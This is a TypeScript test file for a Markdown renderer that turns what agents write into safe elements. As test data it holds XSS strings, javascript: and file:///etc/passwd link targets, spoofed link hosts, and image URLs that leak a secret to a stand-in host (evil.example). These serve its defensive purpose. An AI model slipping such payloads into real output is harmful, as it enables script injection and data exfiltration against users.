import { lexer } from 'marked';
import { describe, expect, test } from 'vitest';
import {
  type MarkdownNode,
  markdownTree,
  safeTarget,
} from '../../src/data/markdown/markdown-tree.ts';

function treeOf(text: string): MarkdownNode[] {
  return markdownTree(lexer(text));
}

/** All elements of a tree, without their place. */
function elementsOf(nodes: readonly MarkdownNode[]): Exclude<MarkdownNode, string>[] {
  return nodes.flatMap((node) =>
    typeof node === 'string' ? [] : [node, ...elementsOf(node.children)],
  );
}

function textOf(nodes: readonly MarkdownNode[]): string {
  return nodes.map((node) => (typeof node === 'string' ? node : textOf(node.children))).join('');
}

test('ordinary Markdown becomes elements', () => {
  const tree = treeOf(
    '# Title\n\nSome **bold** and `code`.\n\n3. three\n4. four\n\n| a |\n|---|\n| 1 |',
  );
  expect(elementsOf(tree).map(({ tag }) => tag)).toEqual([
    'h3',
    'p',
    'strong',
    'code',
    'ol',
    'li',
    'li',
    'table',
    'thead',
    'tr',
    'th',
    'tbody',
    'tr',
    'td',
  ]);
  expect(elementsOf(tree).find(({ tag }) => tag === 'ol')?.start).toBe(3);
});

describe('what agents write stays text and asks for nothing (spec: hostile output)', () => {
  test.each([
    '<script>alert(1)</script>',
    '<img src="https://evil.example/leak?secret">',
    'text <b onclick="x()">bold</b>',
    '<iframe src="https://evil.example"></iframe>',
    '<style>@import "https://evil.example"</style>',
  ])('HTML is shown as it was written: %s', (text) => {
    const tree = treeOf(text);
    expect(elementsOf(tree).filter(({ tag }) => tag !== 'p')).toEqual([]);
    expect(textOf(tree)).toContain(text.slice(0, 8));
  });

  test('an image is its address, never a request', () => {
    const tree = treeOf(
      '![chart](https://evil.example/?q=secret) ![r][1]\n\n[1]: https://evil.example/2',
    );
    expect(elementsOf(tree).map(({ tag }) => tag)).toEqual(['p']);
    expect(textOf(tree)).toContain('[image chart: https://evil.example/?q=secret]');
  });

  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,<script>1</script>',
    'vbscript:x',
    'file:///etc/passwd',
    '/v1/oauth/token',
    '//evil.example',
    'https://user:pass@evil.example',
    'https:\\\\evil.example',
    'blob:https://evil.example/1',
  ])('%s is not a link', (address) => {
    expect(safeTarget(address)).toBeUndefined();
    const links = elementsOf(treeOf(`[click](<${address}>)`)).filter(({ tag }) => tag === 'a');
    expect(links).toEqual([]);
  });

  test.each([
    ['https://bank.example', 'https://evil.example/login', 'evil.example'],
    // A part of the text is the host.
    ['https://internet.company.example/login', 'https://t.co/x', 't.co'],
    ['https://bank.example/evil.example', 'https://evil.example', 'evil.example'],
    ['https://evil.example.bank.example', 'https://evil.example', 'evil.example'],
    ['https://bank.example?evil.example', 'https://evil.example', 'evil.example'],
    ['https://bank.example#evil.example', 'https://evil.example', 'evil.example'],
    ['evil.example https://bank.example', 'https://evil.example', 'evil.example'],
    ['https://evil.example/ https://bank.example', 'https://evil.example', 'evil.example'],
    // User info, and a backslash that ends the host for some readers only.
    ['https://bank.example@evil.example', 'https://evil.example', 'evil.example'],
    ['https://evil.example\\\\@bank.example', 'https://evil.example', 'evil.example'],
    ['https://evil.example:x@bank.example', 'https://evil.example', 'evil.example'],
    // Letters of another script: the first letter is Cyrillic.
    ['https://\u0430pple.example', 'https://\u0430pple.example', 'xn--pple-43d.example'],
    ['https://b\u00fccher.example', 'https://xn--bcher-kva.example', 'xn--bcher-kva.example'],
    ['https://bank\u3002example', 'https://bank\u3002example', 'bank.example'],
    // Without a scheme, with a dot at the end, with a port, as a number.
    ['bank.example', 'https://evil.example', 'evil.example'],
    ['//bank.example', 'https://evil.example', 'evil.example'],
    ['https://bank.example.', 'https://bank.example', 'bank.example'],
    ['https://bank.example', 'https://bank.example.', 'bank.example.'],
    ['https://bank.example', 'https://bank.example:8443', 'bank.example:8443'],
    ['https://0x7f.1', 'https://0x7f.1', '127.0.0.1'],
    // Marks and lines between the letters, and an address that mail goes to.
    ['**https://bank**.example', 'https://evil.example', 'evil.example'],
    ['evil.example  \nbank.example', 'https://evil.example', 'evil.example'],
    ['https://bank.example', 'mailto:bob@evil.example', 'bob@evil.example'],
    ['bob@bank.example', 'mailto:bob@evil.example', 'bob@evil.example'],
    ['bob@evil.example', 'https://evil.example', 'evil.example'],
    ['read this', 'https://evil.example', 'evil.example'],
  ])('a link whose text is %s and that leads to %s shows %s', (text, address, host) => {
    const tree = treeOf(`[${text}](${address})`);
    expect(elementsOf(tree).filter(({ tag }) => tag === 'a')).toHaveLength(1);
    expect(elementsOf(tree).find(({ tag }) => tag === 'span')?.children).toEqual([` (${host})`]);
  });

  test.each([
    '<https://docs.example/a>',
    '[docs.example](https://docs.example/a)',
    '[HTTPS://Docs.Example/a?b#c](https://docs.example/a?b#c)',
    '[docs.example:8443/a](https://docs.example:8443/a)',
    '[**docs**.example](https://docs.example)',
    'www.docs.example',
    'ann@docs.example',
  ])('a link whose text is its address shows it once: %s', (text) => {
    const tags = elementsOf(treeOf(text)).map(({ tag }) => tag);
    expect(tags).toContain('a');
    expect(tags).not.toContain('span');
  });

  test('letters that turn the direction of text are made visible', () => {
    expect(textOf(treeOf('see `\u202egnp.exe`'))).toContain('⟨U+202E⟩');
  });

  test('a thousand levels of quotes end in text', () => {
    const deep = `${'> '.repeat(1000)}bottom`;
    const depth = (nodes: readonly MarkdownNode[]): number =>
      Math.max(
        0,
        ...nodes.map((node) => (typeof node === 'string' ? 0 : 1 + depth(node.children))),
      );
    expect(depth(treeOf(deep))).toBeLessThan(40);
  });
});
